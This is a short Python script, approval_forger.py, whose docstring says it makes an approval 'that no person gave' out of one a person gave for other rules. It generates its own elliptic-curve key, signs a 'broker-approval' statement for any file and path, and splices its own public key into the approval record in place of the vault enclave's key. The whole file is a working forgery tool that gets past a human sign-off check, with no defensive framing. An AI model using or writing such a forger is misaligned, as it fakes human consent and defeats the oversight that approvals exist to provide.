"""Makes an approval of rules that no person gave, from one that a person gave for other rules.

    approval_forger.py APPROVAL.json PATH FILE

Prints an approval for the file at the path: with a key of its own, in the place of the key of the vault's enclave.
"""

import base64
import hashlib
import json
import subprocess
import sys
import tempfile

approval, path, file = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
digest = hashlib.sha256(open(file, "rb").read()).hexdigest()
words = "".join(f"{len(line.encode())}:{line}" for line in approval["words"]).encode()
statement = f"swift-keychain/v2/broker-approval\0{digest}\0{hashlib.sha256(words).hexdigest()}\0{path}".encode()


def openssl(*arguments, data=b""):
    return subprocess.run(["openssl", *arguments], input=data, check=True, capture_output=True).stdout


with tempfile.NamedTemporaryFile() as key:
    key.write(openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout"))
    key.flush()
    public = openssl("ec", "-in", key.name, "-pubout", "-outform", "DER")[-65:]
    der = openssl("dgst", "-sha256", "-sign", key.name, data=statement)
first = der[4:4 + der[3]]
second = der[4 + der[3] + 2:]
signature = b"".join(part[-32:].rjust(32, b"\0") for part in (first, second))
record = base64.b64decode(approval["key"])
# Magic (8), version, kind, class, flag (1 each), flags (8), salt (16), factors (2 and bytes), public key (2 and bytes).
start = 36 + 2 + int.from_bytes(record[36:38], "big") + 2
assert record[start] == 4 and len(public) == 65
forged = record[:start] + public + record[start + 65:]
print(json.dumps({
    "digest": digest, "words": approval["words"], "key": base64.b64encode(forged).decode(),
    "signature": base64.b64encode(signature).decode()}), end="")
